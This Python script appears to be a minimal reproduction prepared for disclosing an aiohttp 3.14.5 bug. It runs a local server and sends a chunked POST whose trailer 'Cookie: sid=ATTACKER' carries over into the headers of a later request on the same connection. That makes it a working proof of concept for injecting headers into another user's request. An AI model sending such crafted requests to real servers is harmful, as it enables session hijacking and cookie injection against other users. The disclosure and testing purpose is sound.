"""Minimal reproduction for an aiohttp bug report (aiohttp 3.14.5, C parser; see
docs/security.md "Threat model", where the report text waits to be filed).

The last trailer field of a chunked request is not discarded: it is added to the headers of the
next request on the same connection, even when that request arrives later in a separate packet.
Run with `python aiohttp_trailer_carryover.py`; it prints the headers the second request was
handled with. Expected: `sid=VICTIM` only. Observed with aiohttp 3.14.5: the trailer's
`Cookie: sid=ATTACKER` comes first (`request.headers.getall("Cookie")` has both).
"""

import asyncio

from aiohttp import web


async def main() -> None:
    async def handler(request: web.Request) -> web.Response:
        await request.read()
        return web.Response(text=f"{request.path} Cookie={request.headers.getall('Cookie', [])}\n")

    runner = web.AppRunner(web.Application())
    runner.app.router.add_route("*", "/{tail:.*}", handler)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]

    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(
        b"POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"3\r\nabc\r\n0\r\nCookie: sid=ATTACKER\r\n\r\n"
    )
    await asyncio.sleep(1)  # a separate packet, a second later
    writer.write(b"GET /victim HTTP/1.1\r\nHost: x\r\nCookie: sid=VICTIM\r\n\r\n")
    await asyncio.sleep(1)
    writer.close()
    print((await reader.read()).decode())
    await runner.cleanup()


asyncio.run(main())
